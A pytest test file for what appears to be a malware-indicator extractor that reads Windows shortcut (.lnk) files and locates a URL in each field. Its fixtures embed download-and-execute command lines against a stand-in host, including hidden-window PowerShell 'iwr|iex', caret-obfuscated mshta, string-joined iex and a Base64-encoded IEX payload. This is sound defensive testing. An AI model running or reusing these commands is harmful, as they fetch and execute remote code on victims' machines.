"""Shortcuts: each field is told by its name, commands as the command line takes them."""

from __future__ import annotations

from base64 import b64encode

import pytest

from app.documents.models import State
from tests.documents.conftest import Read
from tests.documents.make.archives import zip_of
from tests.documents.make.lnk import block, lnk, path_block

URL = "http://evil-link-file.top/a.ps1"
ENCODED = b64encode(f"IEX (iwr {URL})".encode("utf-16-le")).decode()

FILES = {
    "arguments": (lnk(arguments=f"-w hidden -c iwr {URL}|iex"), "arguments"),
    "arguments in ANSI": (lnk(is_unicode=False, arguments=f"/c start {URL}"), "arguments"),
    "carets": (lnk(arguments="/c m^sh^ta h^t^tp^:/^/evil-li^nk-file^.top/a.p^s1"), "arguments"),
    "joined": (lnk(arguments="-c iex('http://evil-'+'link-file.top/a.ps1')"), "arguments"),
    "encoded": (lnk(arguments=f"-nop -enc {ENCODED}"), "arguments, Base64"),
    "description": (lnk(description=f"see {URL}"), "description"),
    "icon": (lnk(relative="..\\a.exe", icon=URL), "icon location"),
    "working folder": (lnk(folder=URL, arguments="x"), "working folder"),
    "target": (lnk(targets=b"\x14\x00\x1fP" + URL.encode() + b"\x00\x00\x00"), "target"),
    "target on a network": (lnk(info=bytes(24) + URL.encode() + b"\x00"), "target"),
    "environment": (lnk(extra=path_block(0xA0000001, URL)), "target"),
    "icon from the environment": (lnk(extra=path_block(0xA0000007, URL)), "icon location"),
    "properties": (lnk(extra=block(0xA0000009, URL.encode("utf-16-le"))), "properties"),
    "behind": (lnk(arguments="x") + zip_of({"a.txt": URL}),
               "embedded what stands behind the shortcut > a.txt"),
}  # fmt: skip


@pytest.mark.parametrize("name", FILES)
def test_a_field_of_a_shortcut_is_found_in_its_place(name: str, read: Read) -> None:
    content, place = FILES[name]
    result = read("a.lnk", content)
    hashes = {ioc.value for file in result.files for ioc in file.iocs}
    found = {o.evidence.ioc.value: o.place.part for o in result.occurrences()}
    assert {value: part for value, part in found.items() if value not in hashes} == {URL: place}
    assert (result.state, result.reason) == (State.OK, "")


@pytest.mark.parametrize("place", [60, 77, 90, 120])
def test_a_shortcut_that_is_cut_off_says_so(place: int, read: Read) -> None:
    result = read("a.lnk", lnk(description="x" * 9, arguments=f"/c {URL}")[:place])
    assert result.state in (State.PARTIAL, State.FAILED)
    assert "end is missing" in result.reason


def test_what_is_behind_a_wrong_length_is_read(read: Read) -> None:
    content = bytearray(lnk(description="x", arguments=f"/c {URL}"))
    content[76:78] = b"\xff\xff"
    result = read("a.lnk", bytes(content))
    assert URL in {o.evidence.ioc.value for o in result.occurrences()}
    assert result.state is State.PARTIAL
